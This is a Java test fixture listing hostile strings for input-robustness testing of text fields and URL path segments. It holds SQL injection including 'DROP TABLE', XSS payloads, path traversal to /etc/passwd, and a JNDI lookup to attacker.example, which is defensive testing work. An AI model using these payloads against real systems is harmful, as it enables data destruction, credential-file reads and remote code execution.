package duban.testing.hostile;

import java.util.LinkedHashMap;
import java.util.Map;

/** The text an attacker types into every field: each must be stored as sent or refused, never crash. */
public final class HostileStrings {

    private HostileStrings() {
    }

    /** Text-field attacks by name; the overlong one exceeds every declared maximum length. */
    public static Map<String, String> text() {
        Map<String, String> strings = new LinkedHashMap<>();
        strings.put("sql", "'; DROP TABLE domain_event_entry; --");
        strings.put("sql-tautology", "市科技局' OR '1'='1");
        strings.put("script", "<script>alert('督办')</script>");
        strings.put("html-attribute", "\"><img src=x onerror=alert(1)>");
        strings.put("path-traversal", "../../../../etc/passwd");
        strings.put("template", "${jndi:ldap://attacker.example/a} {{7*7}} #{7*7}");
        strings.put("control-chars", "a\u0001b\u001b[31mc\u007fd\r\ne");
        strings.put("nul", "前\u0000后");
        strings.put("overlong", "长".repeat(10_000));
        strings.put("rtl-and-emoji", "\u202Eevil\u202C 🚩👩‍💻 \uFEFF");
        return strings;
    }

    /** Path-segment attacks by name, already percent-encoded as they travel. */
    public static Map<String, String> pathSegments() {
        Map<String, String> segments = new LinkedHashMap<>();
        segments.put("unknown-name", "%E4%B8%8D%E5%AD%98%E5%9C%A8%E7%9A%84%E5%8D%95%E4%BD%8D");
        segments.put("sql", "1%27%20OR%20%271%27%3D%271");
        segments.put("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        segments.put("traversal-encoded", "..%2F..%2F..%2Fetc%2Fpasswd");
        segments.put("traversal-double-encoded", "%252e%252e%252fetc%252fpasswd");
        segments.put("traversal-dots", "..");
        segments.put("overlong", "A".repeat(10_000));
        segments.put("huge-unicode", "%E5%8D%95".repeat(1_000));
        segments.put("control-chars", "a%00b%01c%1Bd%7F");
        segments.put("invalid-utf8", "%FF%FE%C3%28%C0%AF");
        segments.put("whitespace", "%20%09%20");
        segments.put("semicolon-matrix", "x%3Bjsessionid%3D1");
        return segments;
    }
}
